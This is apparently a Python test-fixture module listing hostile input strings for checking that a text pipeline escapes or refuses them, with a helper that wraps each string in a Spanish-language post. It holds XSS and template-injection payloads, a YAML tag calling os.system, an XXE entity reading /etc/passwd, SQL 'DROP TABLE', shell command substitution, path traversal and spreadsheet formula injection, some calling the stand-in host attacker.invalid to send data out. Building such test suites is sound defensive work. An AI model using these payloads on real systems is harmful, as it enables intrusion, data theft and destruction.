"""Hostile strings: what a text, a title, a note, a name of a coder or a code may hold.

Each would do something that can be seen if it ever ran: it calls ``pwned(name)``, or asks for a page of the host
``attacker.invalid`` (a name that no network knows), or writes a file whose name holds ``pwned``.
"""

__all__ = ["ATTACKER", "FORMULAS", "RUNNING", "STRINGS", "UNWRITABLE", "post_text"]

ATTACKER = "attacker.invalid"
_HTML = {
    "script": "<script>pwned('script')</script>",
    "script with a space": "< script >pwned('spaced')</ script >",
    "picture that fails": "<img src=x onerror=\"pwned('img')\">",
    "drawing that loads": "<svg/onload=pwned('svg')>",
    "end of an attribute": '" autofocus onfocus="pwned(\'attribute\')" x="',
    "end of a quoted attribute": "' autofocus onfocus='pwned(1)' x='",
    "end of a script": "</script><script>pwned('end of script')</script>",
    "end of a style": "</style><img src=x onerror=pwned('style')>",
    "end of a title": "</title></textarea></noscript><img src=x onerror=pwned('title')>",
    "comment": "<!--><img src=x onerror=pwned('comment')>-->",
    "frame": "<iframe srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe>",
    "object": f"<object data='http://{ATTACKER}/o'></object><embed src='http://{ATTACKER}/e'>",
    "address of a script": "<a href=\"javascript:pwned('address')\">clic</a>",
    "address of data": "<a href=\"data:text/html,<script>opener.pwned('data')</script>\">clic</a>",
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/refresh">',
    "base": f'<base href="http://{ATTACKER}/">',
    "style sheet": f"<link rel=stylesheet href=http://{ATTACKER}/a.css><style>@import 'http://{ATTACKER}/b.css'</style>",
    "style attribute": f"red;background:url(http://{ATTACKER}/c.png)",
    "form": f"<form action=http://{ATTACKER}/><button autofocus onfocus=pwned('form')>clic</button></form>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(1)&gt;">',
    "entities": "&lt;script&gt;pwned('entities')&lt;/script&gt; &#60;img src=x onerror=pwned(2)&#62;",
    "deep tags": "<div>" * 3_000 + "x" + "</div>" * 3_000,
    "Markdown link": "[clic](javascript:pwned('markdown')) <javascript:pwned(3)>",
    "Markdown picture": f'![x](http://{ATTACKER}/p.png "\\" onerror=\\"pwned(\'picture\')")',
    "LaTeX": r"$\href{javascript:pwned('latex')}{x}$ $$\require{action}$$ \(\frac{\) $\undefined{$",
}
_PROGRAMS = {
    "template": "{{ ''.__class__.__mro__ }}{% for x in range(10**9) %}x{% endfor %} ${pwned('template')} #{7*7} <%= 7*7 %>",
    "format string": "%s %n %(x)s {0.__class__} {doc_id!r} %d",
    "end of JSON": "\"}]}</script><script>pwned('json')//",
    "separators of lines in scripts": "\u2028pwned('separator')\u2029 '; pwned(4); '",
    "YAML tag": "!!python/object/apply:os.system ['touch pwned']",
    "YAML aliases": "&a [*a, *a, *a] - : # %YAML 9.9",
    "front matter": "---\ntitle: injected\n---\n",
    "TOML": '"""\n[corpus]\npath = "/etc"\n"""',
    "XML entities": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&lol9;',
    "end of CDATA": "]]><script>pwned('cdata')</script><![CDATA[",
    "SQL": "'; DROP TABLE posts; --",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned & --output=pwned",
    "terminal": "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x9b1m \x1b]8;;http://attacker.invalid/\x07link\x1b]8;;\x07",
}
#: What a spreadsheet would take for a formula.
FORMULAS = {
    "formula": f'=HYPERLINK("http://{ATTACKER}/?"&A1,"clic")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r\n=1+1",
    "formula in wide signs": "＝1+1",
}
_PATHS = {
    "way up": "../../../../../../../../tmp/pwned",
    "way up in Windows": "..\\..\\..\\pwned",
    "absolute path": "/tmp/pwned/../pwned",
    "device": "CON",
    "dots": "..",
    "option": "--output=pwned",
}
_SIGNS = {
    "byte order marks": "\ufeffuno\ufeff dos\ufeff",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200fשלום",
    "without width": "es\u200bcu\u200cchar\u200d \u2060\u00ad",
    "heap of accents": "z" + "\u0301\u0316\u0489" * 700,
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])),
    "no characters": "\ufffe\uffff\U0001fffe\ufdd0",
    "private and tags": "\ue000\U000f0000 \U000e0041\U000e0062",
    "odd spaces": "\u1680\u180e\u2000\u2007\u202f\u205f\u3000",
    "line ends": "uno\r\ndos\rtres\x0bcuatro\x0ccinco\x85seis\u2028siete\u2029",
    "families": "👨‍👩‍👧‍👦👍🏽🇪🇸🇮🇹❤️1️⃣" * 20,
    "other alphabets": "İıßſﬁǆ 漢字 हिन्दी ไทย ⒜ ∑ 𝒳",
}
_SIZES = {
    "one word": "a" * 200_000,
    "brackets": "([{" * 30_000,
    "full stops": "." * 60_000,
    "question marks": "¿" * 20_000 + "?" * 20_000,
    "addresses": "http://a.b/c?d=e#" * 8_000,
    "quotes": "«\"'" * 20_000,
    "spaces": "a" + " " * 100_000 + "b",
    "line ends only": "a" + "\n" * 100_000 + "b",
    "bomb for patterns": "a" * 30_000 + "!",
    "digits": "1" * 50_000 + ",5",
    "one word over and over": "cliente " * 20_000,
    "hyphens": "a-" * 30_000,
    "at signs": "a@" * 20_000 + "b.c",
}
#: What a page might run or load.
RUNNING = {**_HTML, **_PROGRAMS}
#: Strings that can stand in a file as UTF-8.
STRINGS = {**RUNNING, **FORMULAS, **_PATHS, **_SIGNS, **_SIZES}
#: Strings that no file in UTF-8 can hold, or that no format keeps: they may be refused, or read with a word about it.
UNWRITABLE = {
    "NUL": "uno\x00dos",
    "lone surrogate": "uno \ud83d dos",
    "surrogates the wrong way round": "\ude00\ud83d",
}


def post_text(string: str) -> str:
    """A post that says something about principles, with a hostile string in the middle, twice, and at the end."""
    return (
        "Antes de vender hay que escuchar a los clientes y contestar en la página. "
        f"El comentario decía {string} y nadie lo borró.\n\n{string}\n\n"
        "La empresa que habla con voz humana gana la confianza de la gente, y eso no se compra con anuncios.\n\n"
        f"Los empleados contestaron: {string}"
    )
